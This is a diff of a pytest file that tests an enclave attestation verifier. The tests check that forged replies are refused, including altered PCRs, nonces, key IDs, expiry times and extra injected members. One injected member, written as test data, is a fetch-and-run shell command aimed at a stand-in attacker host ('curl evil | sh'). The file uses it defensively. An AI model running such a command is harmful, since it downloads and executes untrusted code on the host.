@@ -4,11 +4,13 @@ is shown as. Those of documents are in test_lies.py."""
 import base64
 import concurrent.futures
 import copy
+import hashlib
 import json
 
 import pytest
 from helpers import forge
 from helpers.forge import ABSENT, AT, Forger
+from helpers.lies import LIES, forged, other
 from helpers.vectors import VECTORS, vectors
 from helpers.verifier import accepted, refused, say
 
@@ -106,46 +108,13 @@ def test_a_claim_that_is_missing_or_malformed(forger):
 # ---- what does the reply say beside what is signed? ----
 
 
-def flip(text):
-    return text[:-1] + ("0" if text[-1] != "0" else "1")
-
-
-def other_b64(text):
-    return base64.b64encode(b"\x7b" + base64.b64decode(text)[1:-1] + b"!").decode()
-
-
-MIRRORS = {
-    "pcr2": ("pcr2", lambda r: r.update(pcr2=flip(r["pcr2"]))),
-    "pcr2 of zeros": ("pcr2", lambda r: r.update(pcr2="00" * 48)),
-    "user_data": ("user_data", lambda r: r["user_data"].update(agent="Somebody else")),
-    "user_data with more": ("user_data", lambda r: r["user_data"].update(more="more")),
-    "user_data with less": ("user_data", lambda r: r["user_data"].pop("agent")),
-    "nonce_hex": ("nonce_hex", lambda r: r.update(nonce_hex=flip(r["nonce_hex"]))),
-    "nonce_hex null": ("nonce_hex", lambda r: r.update(nonce_hex=None)),
-    "a PCR": ("attestation_document.pcrs", lambda r: r["attestation_document"]["pcrs"].update({"0": "5a" * 48})),
-    "a PCR more": ("attestation_document.pcrs", lambda r: r["attestation_document"]["pcrs"].update({"16": "5a" * 48})),
-    "a PCR less": ("attestation_document.pcrs", lambda r: r["attestation_document"]["pcrs"].pop("4")),
-    "module_id": ("attestation_document.module_id", lambda r: r["attestation_document"].update(module_id="i-1-enc1")),
-    "timestamp": ("attestation_document.timestamp", lambda r: r["attestation_document"].update(timestamp=AT * 1000 + 1)),
-    "digest": ("attestation_document.digest", lambda r: r["attestation_document"].update(digest="SHA256")),
-    "certificate": ("attestation_document.certificate",
-                    lambda r: r["attestation_document"].update(certificate=r["attestation_document"]["cabundle"][0])),
-    "cabundle": ("attestation_document.cabundle", lambda r: r["attestation_document"]["cabundle"].pop()),
-    "public_key": ("attestation_document.public_key", lambda r: r["attestation_document"].update(public_key="AAAA")),
-    "the document's user_data": ("attestation_document.user_data", lambda r: r["attestation_document"].update(
-        user_data=other_b64(r["attestation_document"]["user_data"]))),
-    "the document's nonce": ("attestation_document.nonce", lambda r: r["attestation_document"].update(nonce=None)),
-}
-
-
-@pytest.mark.parametrize("what", MIRRORS)
+@pytest.mark.parametrize("what", LIES)
 def test_a_reply_that_says_other_than_what_is_signed(forger, what):
-    field, lie = MIRRORS[what]
-    for make in (forger.attested, lambda: forger.attested(custom=[1, "two", None])):
-        reply = copy.deepcopy(make())
+    kinds, code, field, lie = LIES[what]
+    for kind in kinds:
+        reply = copy.deepcopy(forged(forger, kind))
         lie(reply)
-        verdict = refused_reply(reply, forger.policy(), "reply_mismatch")
-        assert verdict["field"] == field, verdict
+        verdict = refused_reply(reply, forger.policy(), code, field)
         # What the verdict tells is what was signed.
         assert verdict["pcrs"]["2"] == forge.pcr(2).hex() and verdict["module_id"] == "i-0-enc0"
 
@@ -167,10 +136,30 @@ def test_a_quote_that_is_another_document(forger):
     [("nonce", "another-nonce-of-some-length"), ("nonce", None), ("user_data", "what nobody said"), ("user_data", None),
      ("has_public_key", True), ("document_size", 4), ("session_key_hash", "ab" * 32), ("timestamp", 9999999999999),
      ("timestamp", -5), ("timestamp", (AT - 61) * 1000), ("timestamp", "2025-06-15T15:06:40Z"),
-     ("pcrs", {"0": "lie"}), ("module_id", "lie"), ("public_key", "lie"), ("pcr2", "ff" * 48), ("eventLog", "[]")],
+     ("pcrs", {"0": "lie"}), ("module_id", "lie"), ("public_key", "lie"), ("pcr2", "ff" * 48), ("eventLog", "[]"),
+     ("key_id", hashlib.sha256(b"").hexdigest()), ("key_id", None), ("key_expires_in_seconds", 300),
+     ("tee_verified", None), ("tee_verified", 1), ("_warning", None), ("_warning", {"pcrs": {"0": "lie"}})],
 )
 def test_a_vsock_reply_that_says_other_than_what_is_signed(forger, member, value):
     refused_reply({**forger.vsock(), member: value}, forger.policy(), "reply_mismatch", member)
+
+
+KEY_ID = hashlib.sha256(b"a public key").hexdigest()
+
+
+@pytest.mark.parametrize(
+    "member, value",
+    [("key_id", hashlib.sha256(b"another key").hexdigest()), ("key_id", KEY_ID.upper()), ("key_id", KEY_ID[:-1]),
+     ("key_id", KEY_ID + "0"), ("key_id", "sha256:" + KEY_ID), ("key_id", ""), ("key_id", None), ("key_id", [KEY_ID]),
+     ("key_expires_in_seconds", 0), ("key_expires_in_seconds", 86401), ("key_expires_in_seconds", 1.5),
+     ("key_expires_in_seconds", "300"), ("key_expires_in_seconds", None), ("has_public_key", False)],
+)
+def test_a_vsock_reply_that_says_other_than_its_key(forger, member, value):
+    reply = forger.vsock(public_key=b"a public key")
+    assert reply["key_id"] == KEY_ID
+    for seconds in (1, 300, 86400):
+        accepted(json.dumps({**reply, "key_expires_in_seconds": seconds}).encode(), forger.policy(), "reply")
+    refused_reply({**reply, member: value}, forger.policy(), "reply_mismatch", member)
 
 
 def test_a_vsock_reply_whose_nonce_is_the_signed_one_without_its_invalid_utf8(forger):
@@ -186,7 +175,7 @@ BESIDE = {
     "certificate": "AAAA", "pcr0": "ff" * 48, "pcr1": "00", "PCR2": "ff" * 48, "Pcr2": "ff" * 48, "purpose": "tls",
     "agent": "Evil", "guardrail": "none", "metadata_digest": "00" * 32, "info_digest": "00" * 32,
     "tls_spki_hash": "00" * 32, "key_exchange_version": "1.0", "verified": True, "success": True, "nonce": "6e6e6e6e",
-    "has_public_key": True, "document_size": 3, "USER_DATA": {"purpose": "x"}, "Attestation_Document": {},
+    "key_id": "00" * 32, "key_expires_in_seconds": 300, "has_public_key": True, "document_size": 3, "USER_DATA": {"purpose": "x"}, "Attestation_Document": {},
     "verification_instructions": "curl evil | sh", "nonce_encoding": "utf-8", "tee_verified": "yes", "_warning": None,
 }
 
@@ -256,7 +245,8 @@ def test_a_reply_that_sheds_its_kind(forger, kind):
     refused_reply({**whole, "attestation_document": document}, forger.policy(), "reply_mismatch")
     for name in whole.keys() - {"attestation_document", "user_data", "timestamp"}:
         shape = {"attestation_document": document, name: whole[name]}
-        refused_reply(shape, forger.policy(), "reply_mismatch", name)
+        if name != "tee_verified":  # which vsock replies have, too
+            refused_reply(shape, forger.policy(), "reply_mismatch", name)
         refused_reply({**whole["attestation_document"], name: whole[name]}, forger.policy(), "reply_mismatch", name)
     # What is left is a document that nobody asked a purpose of, and says so.
     verdict = accepted(json.dumps({"attestation_document": document}).encode(), forger.policy(), "reply")
@@ -288,7 +278,7 @@ def test_custom_data_that_is_not_what_was_digested(forger):
 @pytest.mark.parametrize("member", ["session_id", "session_key_hash", "user_key_hash"])
 def test_a_key_exchange_that_names_another_key(forger, member):
     reply = forger.key_exchange()
-    reply[member] = flip(reply[member])
+    reply[member] = other(reply[member])
     refused_reply(reply, forger.policy(), "reply_mismatch", member)
 
 
